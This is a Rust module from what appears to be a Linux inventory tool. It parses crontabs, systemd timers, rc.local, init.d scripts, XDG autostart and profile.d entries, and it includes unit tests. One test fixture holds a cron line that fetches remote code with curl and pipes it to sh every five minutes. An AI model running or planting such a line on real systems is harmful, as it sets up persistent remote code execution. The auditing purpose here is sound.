//! `scheduled`: what runs by itself: cron tables, cron.{hourly,daily,…}
//! scripts, enabled systemd timers, /etc/rc.local, SysV scripts enabled
//! without a native unit, XDG autostart entries and /etc/profile.d scripts.

use std::os::unix::fs::PermissionsExt;

use antoan_model::{ScheduledEntry, ServiceState};

use crate::{Ctx, Note};

/// One cron line.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CronLine {
    pub line: usize,
    pub user: String,
    pub schedule: String,
    pub command: String,
}

/// Parses a crontab. `system` tables (/etc/crontab, /etc/cron.d) have a user
/// field after the schedule. Environment lines and malformed lines are
/// skipped; malformed ones are listed as (line, reason).
pub fn parse_crontab(
    text: &str,
    system: bool,
    owner: &str,
) -> (Vec<CronLine>, Vec<(usize, String)>) {
    let mut out = Vec::new();
    let mut bad = Vec::new();
    for (i, raw) in text.lines().enumerate() {
        let n = i + 1;
        let l = raw.trim();
        if l.is_empty() || l.starts_with('#') {
            continue;
        }
        if crate::rootfs::line_is_garbage(l) {
            bad.push((n, "binary data".into()));
            continue;
        }
        // NAME=value environment settings.
        if let Some(eq) = l.find('=') {
            let name = &l[..eq];
            if !name.is_empty()
                && name
                    .trim()
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == '_')
                && !name.contains(' ')
            {
                continue;
            }
            if !name.is_empty()
                && name
                    .trim_end()
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || c == '_')
            {
                continue;
            }
        }
        let fields: Vec<&str> = l.split_whitespace().collect();
        let nsched = if fields.first().is_some_and(|f| f.starts_with('@')) {
            1
        } else {
            5
        };
        let need = nsched + usize::from(system) + 1;
        if fields.len() < need {
            bad.push((n, "too few fields for a cron entry".into()));
            continue;
        }
        let schedule = fields[..nsched].join(" ");
        let user = if system {
            fields[nsched].to_string()
        } else {
            owner.to_string()
        };
        // The command is the rest of the line as written (keep its spacing).
        let mut rest = l;
        for _ in 0..(nsched + usize::from(system)) {
            rest = rest.trim_start();
            let end = rest.find(char::is_whitespace).unwrap_or(rest.len());
            rest = &rest[end..];
        }
        out.push(CronLine {
            line: n,
            user,
            schedule,
            command: rest.trim().to_string(),
        });
    }
    (out, bad)
}

fn desktop_exec(text: &str) -> Option<String> {
    let mut in_entry = false;
    let mut exec = None;
    let mut hidden = false;
    for l in text.lines() {
        let l = l.trim();
        if l.starts_with('[') {
            in_entry = l == "[Desktop Entry]";
            continue;
        }
        if !in_entry {
            continue;
        }
        if let Some(v) = l.strip_prefix("Exec=") {
            exec = Some(v.trim().to_string());
        }
        if l == "Hidden=true" {
            hidden = true;
        }
    }
    if hidden {
        None
    } else {
        exec
    }
}

fn unit_values(text: &str, key: &str) -> Vec<String> {
    text.lines()
        .filter_map(|l| {
            l.trim()
                .strip_prefix(key)
                .and_then(|r| r.trim_start().strip_prefix('='))
        })
        .map(|v| v.trim().to_string())
        .filter(|v| !v.is_empty())
        .collect()
}

pub(crate) fn collect(ctx: &mut Ctx) {
    let fs = ctx.fs.clone();
    let mut note = Note::ok();
    let mut out: Vec<ScheduledEntry> = Vec::new();

    let cron =
        |path: &str, system: bool, owner: &str, note: &mut Note, out: &mut Vec<ScheduledEntry>| {
            match fs.read_text_opt(path) {
                Ok(Some(t)) => {
                    let (lines, bad) = parse_crontab(&t.text, system, owner);
                    for (l, why) in bad {
                        note.warn(format!("{path}:{l}: {why}; line skipped"));
                    }
                    for c in lines {
                        out.push(ScheduledEntry {
                            kind: "cron".into(),
                            source: format!("{path}:{}", c.line),
                            user: c.user,
                            schedule: c.schedule,
                            command: c.command,
                        });
                    }
                }
                Ok(None) => {}
                Err(e) => note.warn(e.to_string()),
            }
        };
    cron("/etc/crontab", true, "", &mut note, &mut out);
    for e in fs.read_dir("/etc/cron.d").unwrap_or_default() {
        if e.meta.is_file() && !e.name.starts_with('.') && !e.name.contains('~') {
            cron(&e.path, true, "", &mut note, &mut out);
        }
    }
    for dir in ["/var/spool/cron/crontabs", "/var/spool/cron"] {
        for e in fs.read_dir(dir).unwrap_or_default() {
            if e.meta.is_file() && !e.name.starts_with('.') {
                cron(&e.path, false, &e.name.clone(), &mut note, &mut out);
            }
        }
    }
    for (dir, sched) in [
        ("/etc/cron.hourly", "@hourly"),
        ("/etc/cron.daily", "@daily"),
        ("/etc/cron.weekly", "@weekly"),
        ("/etc/cron.monthly", "@monthly"),
    ] {
        for e in fs.read_dir(dir).unwrap_or_default() {
            if e.name.starts_with('.') || e.name == "placeholder" {
                continue;
            }
            out.push(ScheduledEntry {
                kind: "cron".into(),
                source: e.path.clone(),
                user: "root".into(),
                schedule: sched.into(),
                command: e.path.clone(),
            });
        }
    }
    // Enabled systemd timers.
    let timers: Vec<(String, String)> = ctx
        .inv
        .services
        .iter()
        .filter(|s| s.name.ends_with(".timer") && s.state == ServiceState::Enabled)
        .map(|s| (s.name.clone(), s.unit_file.clone()))
        .collect();
    for (name, unit_file) in timers {
        let text = fs.read_text(&unit_file).map(|t| t.text).unwrap_or_default();
        let mut sched = unit_values(&text, "OnCalendar");
        sched.extend(
            unit_values(&text, "OnBootSec")
                .into_iter()
                .map(|v| format!("boot+{v}")),
        );
        sched.extend(
            unit_values(&text, "OnUnitActiveSec")
                .into_iter()
                .map(|v| format!("every {v}")),
        );
        let target = unit_values(&text, "Unit")
            .into_iter()
            .next()
            .unwrap_or_else(|| name.replace(".timer", ".service"));
        let service_name = crate::services::display_name(&target);
        let command = ctx
            .inv
            .services
            .iter()
            .find(|s| s.name == service_name)
            .and_then(|s| fs.read_text(&s.unit_file).ok())
            .and_then(|t| unit_values(&t.text, "ExecStart").into_iter().next())
            .unwrap_or(target);
        out.push(ScheduledEntry {
            kind: "systemd-timer".into(),
            source: unit_file,
            user: String::new(),
            schedule: sched.join("; "),
            command,
        });
    }
    // rc.local, when executable and doing something.
    for p in ["/etc/rc.local", "/etc/rc.d/rc.local"] {
        let Ok(Some(meta)) = fs.stat(p) else { continue };
        if meta.permissions().mode() & 0o111 == 0 {
            continue;
        }
        if let Ok(t) = fs.read_text(p) {
            for (i, l) in t.text.lines().enumerate() {
                let l = l.trim();
                if l.is_empty() || l.starts_with('#') || l == "exit 0" || l == "exit" {
                    continue;
                }
                out.push(ScheduledEntry {
                    kind: "rc.local".into(),
                    source: format!("{p}:{}", i + 1),
                    user: "root".into(),
                    schedule: "@boot".into(),
                    command: l.to_string(),
                });
            }
        }
        break;
    }
    // SysV scripts enabled without a native unit (services lists them with their init.d path).
    for s in &ctx.inv.services {
        if s.state == ServiceState::Enabled
            && (s.unit_file.starts_with("/etc/init.d/")
                || s.unit_file.starts_with("/etc/rc.d/init.d/"))
        {
            out.push(ScheduledEntry {
                kind: "init.d".into(),
                source: s.unit_file.clone(),
                user: "root".into(),
                schedule: "@boot".into(),
                command: s.unit_file.clone(),
            });
        }
    }
    for e in fs.read_dir("/etc/xdg/autostart").unwrap_or_default() {
        if !e.name.ends_with(".desktop") {
            continue;
        }
        if let Ok(t) = fs.read_text(&e.path) {
            if let Some(exec) = desktop_exec(&t.text) {
                out.push(ScheduledEntry {
                    kind: "xdg-autostart".into(),
                    source: e.path.clone(),
                    user: String::new(),
                    schedule: "@login".into(),
                    command: exec,
                });
            }
        }
    }
    for e in fs.read_dir("/etc/profile.d").unwrap_or_default() {
        if e.name.ends_with(".sh") || e.name.ends_with(".csh") {
            out.push(ScheduledEntry {
                kind: "profile.d".into(),
                source: e.path.clone(),
                user: String::new(),
                schedule: "@login".into(),
                command: e.path.clone(),
            });
        }
    }
    out.sort_by(|a, b| (&a.kind, &a.source, &a.command).cmp(&(&b.kind, &b.source, &b.command)));
    ctx.inv.scheduled = out;
    ctx.record("scheduled", note);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn crontabs() {
        let t = "SHELL=/bin/sh\nPATH = /usr/bin\n# m h dom mon dow user command\n17 *\t* * *\troot    cd / && run-parts --report /etc/cron.hourly\n@reboot root /opt/x.sh --a  b\n* * * bad\n";
        let (l, bad) = parse_crontab(t, true, "");
        assert_eq!(l.len(), 2);
        assert_eq!(l[0].schedule, "17 * * * *");
        assert_eq!(l[0].user, "root");
        assert_eq!(l[0].command, "cd / && run-parts --report /etc/cron.hourly");
        assert_eq!(l[1].schedule, "@reboot");
        assert_eq!(l[1].command, "/opt/x.sh --a  b");
        assert_eq!(
            bad,
            vec![(6, "too few fields for a cron entry".to_string())]
        );
        let (l, _) = parse_crontab("*/5 * * * * curl http://x | sh\n", false, "www-data");
        assert_eq!(l[0].user, "www-data");
        assert_eq!(l[0].command, "curl http://x | sh");
    }

    #[test]
    fn desktop() {
        assert_eq!(
            desktop_exec("[Desktop Entry]\nExec=/usr/bin/x --y\n").as_deref(),
            Some("/usr/bin/x --y")
        );
        assert_eq!(
            desktop_exec("[Desktop Entry]\nExec=/usr/bin/x\nHidden=true\n"),
            None
        );
    }
}
